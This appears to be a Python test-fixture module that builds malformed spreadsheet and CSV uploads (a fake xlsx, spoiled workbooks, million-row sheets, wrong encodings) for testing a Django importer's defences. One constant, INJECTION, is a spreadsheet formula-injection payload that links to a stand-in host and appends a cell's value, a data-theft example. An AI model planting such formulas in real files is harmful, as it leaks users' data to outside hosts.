"""A corpus of malformed uploads, built in memory: files that are not workbooks, workbooks with the
wrong sheets, headers, merged cells, formulas, text in number cells, huge strings, a million rows,
and CSV files in the wrong encodings.

Each builder returns bytes. The workbook cases start from a good workbook (an ``openpyxl``
Workbook the caller builds for one importer) and spoil one thing; ``million_rows`` writes the
sheet's XML straight into the zip, streaming, so a million real rows cost seconds to build and
little to upload.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from xml.sax.saxutils import escape

from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from PIL import Image

MILLION = 1_000_000
HUGE = 100_000  # characters in a name cell
INJECTION = '=HYPERLINK("https://contoh.invalid/curi?d="&A1,"Klik di sini")'


def table_counts() -> dict[str, int]:
    """The number of rows of every table (auto-created many-to-many tables too): equal before and
    after a refused upload or post means nothing was written anywhere."""
    from django.apps import apps

    return {
        model._meta.db_table: model._default_manager.count()
        for model in apps.get_models(include_auto_created=True)
        if model._meta.managed and not model._meta.proxy
    }


# --- Not a workbook ------------------------------------------------------------------------------


def png() -> bytes:
    """A real 4x4 PNG image (to be uploaded under a .xlsx name)."""
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, format="PNG")
    return buffer.getvalue()


def zip_not_workbook() -> bytes:
    """A valid zip archive holding a text file: no [Content_Types].xml, no xl/workbook.xml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("catatan.txt", "Ini arsip zip, bukan buku kerja Excel.")
    return buffer.getvalue()


def empty() -> bytes:
    return b""


# --- Spoiled workbooks ---------------------------------------------------------------------------


def save(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def spoiled(good: Workbook, change: Callable[[Workbook], None]) -> bytes:
    """The good workbook with one change applied."""
    change(good)
    return save(good)


def only_other_sheet(good: Workbook) -> bytes:
    """The data sheets gone: one sheet "Lembar1" with a note in it, as a wrong file would have."""
    workbook = Workbook()
    workbook.active.title = "Lembar1"
    workbook.active.append(["Daftar hadir rapat"])
    workbook.active.append(["Nama", "Jabatan"])
    return save(workbook)


def set_cell(sheet: str, coordinate: str, value, *, as_text: bool = False) -> Callable[[Workbook], None]:
    def change(workbook: Workbook) -> None:
        cell = workbook[sheet][coordinate]
        cell.value = value
        if as_text:
            cell.data_type = "s"  # openpyxl would otherwise take a leading "=" as a formula

    return change


def merge(sheet: str, cells: str) -> Callable[[Workbook], None]:
    """Merge a range: every cell but the top-left one loses its value, as in Excel."""

    def change(workbook: Workbook) -> None:
        workbook[sheet].merge_cells(cells)

    return change


def extra_row(sheet: str, source_row: int = 2) -> Callable[[Workbook], None]:
    """Copy a data row below the last one (so a merge across rows has two rows to span)."""

    def change(workbook: Workbook) -> None:
        ws = workbook[sheet]
        ws.append([cell.value for cell in ws[source_row]])

    return change


def chain(*changes: Callable[[Workbook], None]) -> Callable[[Workbook], None]:
    def change(workbook: Workbook) -> None:
        for one in changes:
            one(workbook)

    return change


# --- A million rows ------------------------------------------------------------------------------


def _sheet_parts(archive: zipfile.ZipFile) -> dict[str, str]:
    """Sheet name -> the path of its XML part in the zip."""
    workbook = archive.read("xl/workbook.xml").decode()
    rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    targets = {
        match["id"]: match["target"]
        for match in re.finditer(r'<Relationship[^>]*?Id="(?P<id>[^"]+)"[^>]*?Target="(?P<target>[^"]+)"', rels)
    }
    targets |= {
        match["id"]: match["target"]
        for match in re.finditer(r'<Relationship[^>]*?Target="(?P<target>[^"]+)"[^>]*?Id="(?P<id>[^"]+)"', rels)
    }
    parts = {}
    for match in re.finditer(r'<sheet [^>]*?name="(?P<name>[^"]+)"[^>]*?r:id="(?P<id>[^"]+)"', workbook):
        target = targets[match["id"]].lstrip("/")
        parts[match["name"]] = target if target.startswith("xl/") else f"xl/{target}"
    return parts


def _cell_xml(value) -> str:
    if value is None:
        return "<c/>"
    if isinstance(value, bool):
        return f'<c t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f"<c><v>{value}</v></c>"
    return f'<c t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def _row_xml(values: list) -> str:
    # No r attributes: openpyxl counts rows and cells itself, and identical rows compress to nothing.
    return "<row>" + "".join(_cell_xml(value) for value in values) + "</row>"


def _sheet_xml(header: list, row: list, rows: int) -> Iterator[bytes]:
    yield (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        # The dimension tells the truth: a million rows.
        + f'<dimension ref="A1:{get_column_letter(max(len(header), 1))}{rows + 1}"/>'.encode()
        + b"<sheetData>"
    )
    yield _row_xml(header).encode()
    line = _row_xml(row).encode()
    chunk = line * 10_000
    for _ in range(rows // 10_000):
        yield chunk
    yield line * (rows % 10_000)
    yield b"</sheetData></worksheet>"


def million_rows(
    good: bytes, sheet: str, *, rows: int = MILLION, blank: bool = False, columns: int | None = None
) -> bytes:
    """The good workbook with ``sheet`` replaced by its header and ``rows`` copies of its second row
    (its first ``columns`` cells: a million wide rows would unpack beyond the zip-bomb limit and be
    refused for that), or, with ``blank``, rows of one cell holding a space. Streamed into the zip,
    never held whole."""
    workbook = load_workbook(io.BytesIO(good), read_only=True)
    values = [list(r) for r in workbook[sheet].iter_rows(min_row=1, max_row=2, values_only=True)]
    workbook.close()
    header, row = values[0], values[1] if len(values) > 1 else values[0]
    row = row[:columns] if columns else row
    if blank:
        row = [" "]  # one blank cell a row: the file stays small unpacked
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        part = _sheet_parts(source)[sheet]
        for item in source.infolist():
            if item.filename != part:
                target.writestr(item, source.read(item.filename))
                continue
            info = zipfile.ZipInfo(part, date_time=item.date_time)
            info.compress_type = zipfile.ZIP_DEFLATED
            with target.open(info, "w", force_zip64=True) as handle:
                for chunk in _sheet_xml(header, row, rows):
                    handle.write(chunk)
    return output.getvalue()


def far_row(good: bytes, sheet: str, row_number: int = 1_048_576) -> bytes:
    """The good workbook with one cell at the last row Excel allows: a tiny file whose sheet is a
    million rows long, gaps included."""

    def change(workbook: Workbook) -> None:
        workbook[sheet].cell(row=row_number, column=1, value="x")

    return spoiled(load_workbook(io.BytesIO(good)), change)


def unpacked_size(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(item.file_size for item in archive.infolist())


def sheet_rows(data: bytes, sheet: str) -> int:
    """How many rows the sheet really holds, counted by streaming its XML (not trusting its dimension)."""
    count, tail = 0, b""
    with zipfile.ZipFile(io.BytesIO(data)) as archive, archive.open(_sheet_parts(archive)[sheet]) as handle:
        while chunk := handle.read(1 << 20):
            block = tail + chunk
            count += block.count(b"<row>") + block.count(b"<row ")
            tail = block[-4:]  # too short to hold a whole "<row>" counted already
    return count


# --- CSV in the wrong encodings ------------------------------------------------------------------


def csv_latin1(header: list[str], row: list[str]) -> bytes:
    """A semicolon CSV in latin-1 whose bytes are not valid UTF-8 (é is 0xE9)."""
    return (";".join(header) + "\r\n" + ";".join(row) + "\r\n").encode("latin-1")


def csv_million_rows(header: list[str], row: list[str], rows: int = MILLION) -> bytes:
    """A UTF-8 CSV of a million data rows (about 30 MB)."""
    line = (";".join(row) + "\r\n").encode()
    return (";".join(header) + "\r\n").encode() + line * rows


def csv_utf16_without_bom(header: list[str], row: list[str]) -> bytes:
    return (";".join(header) + "\r\n" + ";".join(row) + "\r\n").encode("utf-16-le")


def binary_garbage(size: int = 4096, seed: int = 8) -> bytes:
    generator = random.Random(seed)
    return bytes(generator.randrange(256) for _ in range(size))
